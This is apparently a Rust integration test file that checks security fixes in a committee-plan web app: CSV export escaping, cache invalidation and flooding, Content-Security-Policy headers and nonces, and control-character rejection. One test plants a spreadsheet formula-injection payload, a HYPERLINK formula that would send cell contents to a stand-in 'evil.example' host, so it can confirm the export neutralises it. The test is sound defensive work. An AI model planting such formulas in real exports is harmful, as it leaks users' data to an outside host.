//! The holes found by trying the pages as an attacker would, each proved closed through the
//! real router over a fresh database: spreadsheet formulas, stale and flooded caches, headers
//! and scripts, and control characters. (Accounts: `security.rs`.)

mod common;

use axum::http::{header, StatusCode};
use common::{database_digest, TestApp};
use sqlx::PgPool;

const LEAD: &str = "clacks.lead@example.org";
const CONTRIBUTOR: &str = "clacks.contributor@example.org";
const PLAN: &str = "/committees/clackmannanshire/plans/2023-25";

/// The cells of a CSV export, row by row.
fn csv_cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[sqlx::test(migrations = "../migrations")]
async fn an_exported_plan_never_holds_a_cell_a_spreadsheet_would_run(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let cookie = app.sign_in(CONTRIBUTOR).await;
    let planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")";
    let action = sqlx::query!(
        r#"select a.id, a.version from actions a join plan_actions pa on pa.action_id = a.id
             join plans p on p.id = pa.plan_id where p.slug = '2023-25' and a.owner_committee_id = p.committee_id
            order by pa.position limit 1"#
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    let (id, version) = (action.id.to_string(), action.version.to_string());
    let updated = app
        .post(
            "/api/update_action",
            &[("action", &id), ("version", &version), ("status", "G"), ("progress", planted), ("evidence", "@SUM(1)")],
            Some(&cookie),
        )
        .await;
    assert!(updated.status.is_success(), "{}: {}", updated.status, updated.body);
    let export = app.get(&format!("{PLAN}/export.csv")).await;
    for row in csv_cells(&export.body) {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run as a formula");
        }
    }
    assert!(export.body.contains("'=HYPERLINK("), "the text is kept, as text");
    // Importing the export gives the same text back, and exporting it again the same bytes.
    let parsed = app::domain::plan_csv::parse_plan_csv(export.body.as_bytes()).expect("the export imports");
    let progress: Vec<&str> = parsed
        .priorities
        .iter()
        .flat_map(|p| &p.outcomes)
        .flat_map(|o| &o.objectives)
        .flat_map(|o| &o.actions)
        .map(|a| a.progress.as_str())
        .collect();
    assert!(progress.contains(&planted));
    assert_eq!(app::domain::plan_csv::write_csv(&parsed.rows()), export.body);
}

/// Waits until a GET of `path` is no longer served from the cache (the change's
/// notification has arrived), or fails after two seconds.
async fn until_dropped(app: &TestApp, path: &str, what: &str) {
    for _ in 0..40 {
        if app.get(path).await.cache != "hit" {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("{what} did not drop the cached {path}");
}

async fn cached(app: &TestApp, path: &str) {
    app.get(path).await;
    assert_eq!(app.get(path).await.cache, "hit", "{path} is served from the cache");
}

#[sqlx::test(migrations = "../migrations")]
async fn every_kind_of_write_announces_itself_and_drops_cached_pages(pool: PgPool) {
    let app = TestApp::with_demo(pool).await.with_live_cache().await;
    let chair = app.sign_in("chair.protocols@example.org").await;
    let lead = app.sign_in(LEAD).await;
    let admin = app.sign_in("admin@example.org").await;
    let subgroup = "fv-policies-procedures-protocols";
    let version: String = sqlx::query_scalar(
        "select r.version::text from protocol_ratifications r join committees c on c.id = r.committee_id
           join protocol_versions v on v.id = r.protocol_version_id join protocols p on p.id = v.protocol_id
          where c.slug = 'clackmannanshire' and p.slug = 'fv-learning-review-protocol'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    let protocol_version: String = sqlx::query_scalar(
        "select v.id::text from protocol_versions v join protocols p on p.id = v.protocol_id
          where p.slug = 'fv-learning-review-protocol'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    type Write<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, &'a str);
    let writes: Vec<Write> = vec![
        (
            "a new protocol",
            "/api/create_protocol",
            vec![
                ("subgroup", subgroup),
                ("title", "FV Cache Test Protocol"),
                ("summary", ""),
                ("owner_name", ""),
                ("label", "Version 1"),
                ("document_url", "https://example.org/p.pdf"),
                ("body", ""),
                ("review_due_on", ""),
            ],
            &chair,
        ),
        (
            "a ratification",
            "/api/record_ratification",
            vec![
                ("protocol_version", &protocol_version),
                ("committee", "clackmannanshire"),
                ("state", "ratified"),
                ("decided_on", "2026-11-30"),
                ("reason", ""),
                ("version", &version),
            ],
            &lead,
        ),
        (
            "a new version",
            "/api/add_protocol_version",
            vec![
                ("protocol", "fv-learning-review-protocol"),
                ("label", "Version 9"),
                ("document_url", "https://example.org/v9.pdf"),
                ("body", ""),
                ("review_due_on", ""),
            ],
            &chair,
        ),
        (
            "a new committee",
            "/api/create_committee",
            vec![("name", "West Lothian CPC"), ("short_name", "West Lothian"), ("slug", "west-lothian")],
            &admin,
        ),
        (
            "a new subgroup",
            "/api/create_subgroup",
            vec![("name", "FV Data Subgroup"), ("short_name", "FV Data"), ("slug", "fv-data")],
            &admin,
        ),
    ];
    for (what, path, fields, cookie) in writes {
        cached(&app, "/").await;
        cached(&app, "/protocols").await;
        let r = app.post(path, &fields, Some(cookie)).await;
        assert!(r.status.is_success(), "{what}: {} {}", r.status, r.body);
        until_dropped(&app, "/", what).await;
        until_dropped(&app, "/protocols", what).await;
    }
    // Every table a page reads writes change events, whoever writes to it, from the database
    // (trigger functions in the `live` schema; memberships and people too: they change rights).
    // access_versions is no page's: it moves only with a membership or person row, announced.
    // Uploads awaiting confirmation (plan_imports, risk_imports) are their uploader's alone.
    let silent: Vec<String> = sqlx::query_scalar(
        "select c.relname::text from pg_class c
          where c.relnamespace = 'public'::regnamespace and c.relkind = 'r'
            and c.relname not in ('_sqlx_migrations', 'invitations', 'audit_events', 'plan_imports',
                                  'risk_imports', 'plan_status_counts', 'access_versions')
            and not exists (select 1 from pg_trigger t join pg_proc f on f.oid = t.tgfoid
                             where t.tgrelid = c.oid and f.pronamespace = 'live'::regnamespace)
          order by 1",
    )
    .fetch_all(&app.pool)
    .await
    .unwrap();
    assert!(silent.is_empty(), "tables whose changes no page would hear of: {silent:?}");
}

#[sqlx::test(migrations = "../migrations")]
async fn junk_query_strings_cannot_crowd_out_the_page_cache(pool: PgPool) {
    let app = TestApp::with_demo(pool).await.with_live_cache().await;
    // The test cache holds 100 pages: many times that in junk addresses.
    for i in 0..300 {
        app.get(&format!("{PLAN}?x={i}")).await;
        app.get(&format!("{PLAN}?lead=nobody-{i}")).await;
    }
    let (entries, _) = app.cache.usage();
    assert!(entries <= 2, "junk made {entries} entries");
    cached(&app, "/protocols").await;
    cached(&app, &format!("{PLAN}?status=p")).await;
    assert_eq!(app.get(&format!("{PLAN}?x=7&status=p")).await.cache, "hit", "the same page whatever junk it carries");
    // A real filter value is still cached; an unknown one never is.
    cached(&app, &format!("{PLAN}?lead=Lead+Officer")).await;
    assert_ne!(app.get(&format!("{PLAN}?lead=nobody-1")).await.cache, "hit");
}

#[sqlx::test(migrations = "../migrations")]
async fn every_response_carries_the_security_headers_and_pages_run_only_the_scripts_allowed(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    for path in ["/", PLAN, "/sign-in", "/healthz", "/no-such-page", "/pkg/forth.css"] {
        let r = app.get(path).await;
        let csp = r.headers.get(header::CONTENT_SECURITY_POLICY).and_then(|v| v.to_str().ok()).unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("object-src 'none'"), "{path}: {csp:?}");
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(r.headers.get(header::X_CONTENT_TYPE_OPTIONS).unwrap(), "nosniff", "{path}");
        assert_eq!(r.headers.get(header::REFERRER_POLICY).unwrap(), "same-origin", "{path}");
        assert!(r.headers.get(header::STRICT_TRANSPORT_SECURITY).is_some(), "{path}: Secure cookies, so HSTS");
        if r.content_type.starts_with("text/html") && r.status != StatusCode::BAD_REQUEST {
            let nonce = policy_nonce(csp).expect("a page's policy names its nonce");
            for (script_nonce, script) in inline_scripts(&r.body) {
                assert_eq!(
                    script_nonce.as_deref(),
                    Some(nonce),
                    "{path}: an inline script the policy would block: {script:.80}"
                );
            }
            assert!(!r.body.contains(" style=\""), "{path}: an inline style attribute the policy would block");
        } else {
            assert!(csp.contains("script-src 'none'"), "{path}: {csp}");
        }
    }
    // A page served again from the cache carries a fresh nonce, in its policy and its scripts.
    let cached = TestApp::with_pool_size(app.pool.clone(), 2).with_live_cache().await;
    let mut nonces = std::collections::BTreeSet::new();
    for _ in 0..3 {
        let r = cached.get("/protocols").await;
        let csp = r.headers.get(header::CONTENT_SECURITY_POLICY).unwrap().to_str().unwrap().to_owned();
        let nonce = policy_nonce(&csp).unwrap().to_owned();
        for (script_nonce, _) in inline_scripts(&r.body) {
            assert_eq!(script_nonce.as_deref(), Some(nonce.as_str()), "a served-again page's scripts carry its nonce");
        }
        nonces.insert(nonce);
    }
    assert_eq!(cached.get("/protocols").await.cache, "hit");
    assert_eq!(nonces.len(), 3, "every answer has its own nonce");
    // Plain HTTP on one's own machine: no HSTS.
    let plain = TestApp::configured(app.pool.clone(), 2, |state| state.secure_cookies = false);
    assert!(plain.get("/").await.headers.get(header::STRICT_TRANSPORT_SECURITY).is_none());
}

#[sqlx::test(migrations = "../migrations")]
async fn control_characters_are_refused_at_the_edge_and_never_answer_500(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let lead = app.sign_in(LEAD).await;
    let before = database_digest(&app.pool).await;
    for (path, field) in [
        ("/api/committee", "committee"),
        ("/api/subgroup", "subgroup"),
        ("/api/plan", "committee"),
        ("/api/audit", "committee"),
        ("/api/plan_import_start", "committee"),
        ("/api/plan_import", "upload"),
        ("/api/protocol", "protocol"),
    ] {
        let r = app
            .post(
                path,
                &[(field, "clack\0mannanshire"), ("committee", "clackmannanshire"), ("plan", "2023-25")],
                Some(&lead),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {}", r.body);
        assert!(r.body.contains("control character"), "{path}: {}", r.body);
    }
    for path in ["/committees/%00", "/committees/clackmannanshire/plans/2023-25?lead=%00", "/protocols/a%01b"] {
        let r = app.get(path).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}");
    }
    assert_eq!(database_digest(&app.pool).await, before);
    // The plan file route: a NUL inside a cell is a problem of that cell, never a 500.
    let csv =
        "priority,outcome_number,outcome,objective_number,objective,action,lead,timescale,evidence,progress,status\r\n\
               Leadership,1,,1.1,Members,Act\0ion,Lead Officer,,,,\r\n";
    let r = app.post_upload("/committees/clackmannanshire/plans/import", &[("file", csv)], Some(&lead)).await;
    assert!(r.status.is_redirection() || r.status.is_client_error(), "{}", r.status);
    let preview = app.get_with_cookie(&r.location, &lead).await;
    assert!(preview.body.contains("control character"), "the preview names the cell's problem");
}

/// The nonce a Content-Security-Policy names (`'nonce-…'`), read independently of the server.
fn policy_nonce(csp: &str) -> Option<&str> {
    let (_, after) = csp.split_once("'nonce-")?;
    after.split('\'').next()
}

/// Each inline script of a page (no `src`) with the nonce its tag carries.
fn inline_scripts(html: &str) -> Vec<(Option<String>, String)> {
    html.split("<script")
        .skip(1)
        .filter_map(|piece| {
            let (tag, rest) = piece.split_once('>')?;
            let (body, _) = rest.split_once("</script>")?;
            (!tag.contains("src=")).then(|| {
                let nonce = tag.split("nonce=\"").nth(1).and_then(|n| n.split('"').next()).map(str::to_owned);
                (nonce, body.to_owned())
            })
        })
        .collect()
}
